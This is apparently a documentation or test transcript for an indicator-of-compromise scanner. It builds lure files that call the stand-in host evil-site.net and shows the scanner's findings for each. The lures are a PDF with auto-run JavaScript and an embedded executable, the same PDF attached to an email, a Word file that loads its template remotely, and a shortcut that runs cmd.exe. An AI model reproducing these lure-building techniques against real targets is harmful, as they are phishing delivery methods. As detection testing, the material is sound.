# What lies inside documents and programs: links, scripts, attachments, shortcuts, fingerprints.

$ cat >alert.md <<'END'
> # Lantern Moth writes to laboratories
>
> Published: 3 July 2020. Seen since 1 May 2020.
>
> ## Indicators of compromise
>
> - evil-site[.]net
> - SHA-256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
> END

$ cat >findings <<'END'
> #!/bin/sh
> tocsin sweep -a alert.md --format json "$@" | records +finding +gap at class place field why reason
> END

$ chmod +x findings

# A PDF: a script, a link, words cut by kerning, an attached file.
$ python3 - >lure.pdf <<'END'
> import sys, zlib
> show = zlib.compress(b'BT /F1 12 Tf 10 10 Td [(See evi)-5(l-site.net)] TJ ET')
> objects = [
>     b'<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\("http://evil-site.net/js"\\))>>>>',
>     b'<</Type/Annot/Subtype/Link/A<</S/URI/URI(http://evil-site.net/a)>>>>',
>     b'<</Length %d/Filter/FlateDecode>>stream\n' % len(show) + show + b'\nendstream',
>     b'<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
>     b'<</Type/EmbeddedFile/Length 4>>stream\ntest\nendstream']
> out = b'%PDF-1.4\n' + b''.join(b'%d 0 obj\n%s\nendobj\n' % (i + 1, o) for i, o in enumerate(objects))
> sys.stdout.buffer.write(out + b'trailer<</Root 1 0 R>>\n%%EOF\n')
> END

$ ./findings lure.pdf
tocsin: seen: lure.pdf: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 (a listed program or file lies here, known by its content), in lure.pdf
finding at=lure.pdf @ 0x16+13 class=unjudged place=link field=script why=["a document that lies here leads to it"]
finding at=lure.pdf » text:2 class=mention place=document why=["it stands in the text of a document"]
finding at=lure.pdf » a.exe class=compromise place=file content why=["a listed program or file lies here, known by its content"]

# The same attached to a message: they tried.
$ (printf 'From: a@b.example\nTo: lab@hospital.example\nDate: Sun, 10 May 2020 09:14:00 +0000\nContent-Type: application/pdf; name=lure.pdf\nContent-Transfer-Encoding: base64\n\n'; base64 lure.pdf) >lure.eml; ./findings lure.eml
finding at=lure.eml » lure.pdf @ 0x16+13 class=attempt place=link field=script why=["a message to us", "a link in a document, attached to a message to us"]
finding at=lure.eml » lure.pdf » text:2 class=unjudged place=unknown record why=["it stands in the text of a message, not as a link"]
finding at=lure.eml » lure.pdf » a.exe class=attempt place=file content why=["a message to us", "a listed file, attached to a message to us"]

# A document of Word that fetches its template from outside.
$ python3 -c 'import zipfile; z = zipfile.ZipFile("lure.docx", "w"); z.writestr("word/_rels/settings.xml.rels", "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Target=\"http://evil-site&#46;net/t.dotm\" TargetMode=\"External\"/></Relationships>"); z.close()'; ./findings lure.docx
finding at=lure.docx » word/_rels/settings.xml.rels @ 0x7+13 class=unjudged place=link field=link why=["a document that lies here leads to it"]

# A shortcut that starts a command.
$ python3 -c 'import struct, sys; u = lambda t: struct.pack("<H", len(t)) + t.encode("utf-16le"); sys.stdout.buffer.write(bytes.fromhex("4c0000000114020000000000c000000000000046") + struct.pack("<I", 8 | 32 | 128) + bytes(52) + u("..\\cmd.exe") + u("/c start http://evil-site.net/a"))' >invoice.lnk; ./findings invoice.lnk
tocsin: seen: invoice.lnk: evil-site.net (it stands in a command that runs here), in invoice.lnk
finding at=invoice.lnk @ 0x1b+13 class=compromise place=command why=["it stands in a command that runs here"]
finding at=invoice.lnk:2 class=unjudged place=bytes why=["it stands inside a file that is not understood"]
